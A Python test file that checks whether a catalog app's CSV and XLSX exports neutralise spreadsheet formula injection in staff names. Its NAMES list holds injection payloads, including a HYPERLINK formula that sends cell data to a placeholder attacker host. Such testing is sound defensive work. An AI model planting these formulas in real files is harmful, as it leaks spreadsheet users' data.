"""Exports never hand a spreadsheet a formula someone typed (docs/security.md, "Exports").

A clerk names staff ``=HYPERLINK(…)``, ``+1+1``, ``-2+3``, ``@SUM(A1)`` and with a leading
tab or CR; the catalog's CSV export must write them with a leading ``'`` (OWASP), keep
numbers as numbers, and the XLSX export must store them as text, not formulas.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import delete

from catalog.models import Person
from core.extensions import db
from core.scoping import acting_as, scope_for_user
from core.xlsx.export import csv_cell
from tests.core.helpers import user

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)",
         "\t=1+1", "\r=1+1"]


@pytest.fixture
def people(app):
    """Staff of the clerk's organisation with formula-like names; removed afterwards."""
    with app.app_context():
        clerk = user(app, "tianshan_clerk")
        with acting_as(scope_for_user(clerk)):
            rows = [Person(name=name, organization_id=clerk.organization_id) for name in NAMES]
            db.session.add_all(rows)
            db.session.commit()
            ids = [row.id for row in rows]
        db.session.remove()
    yield ids
    with app.app_context():
        db.session.execute(delete(Person).where(Person.id.in_(ids)))
        db.session.commit()
        db.session.remove()


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    assert [csv_cell(name) for name in NAMES] == ["'" + name for name in NAMES]
    assert csv_cell("天山区") == "天山区" and csv_cell(None) == ""
    assert csv_cell(-5) == -5 and csv_cell(-1.5) == -1.5  # a negative amount is a number, not text


def test_the_catalog_csv_export_escapes_formula_cells(login, people):
    response = login("tianshan_clerk").get("/catalog/export/person.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    exported = {int(r["id"]): r for r in rows}
    names = [exported[pk]["name"] for pk in people]
    assert names == ["'" + name for name in NAMES]
    for row in rows:  # no cell anywhere starts as a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert all(r["id"].isdigit() for r in rows)  # numbers are written as they are


def test_the_xlsx_export_keeps_them_as_text(login, people):
    response = login("tianshan_clerk").get("/personview/xlsx/export")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.data)).worksheets[0]
    cells = {cell.value: cell.data_type for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for name in NAMES:
        name = name.replace("\r", "\n")  # XML reads a CR back as LF
        assert cells.get(name) == "s", (name, cells.get(name))  # a string cell, not "f" (formula)
    assert "f" not in cells.values()
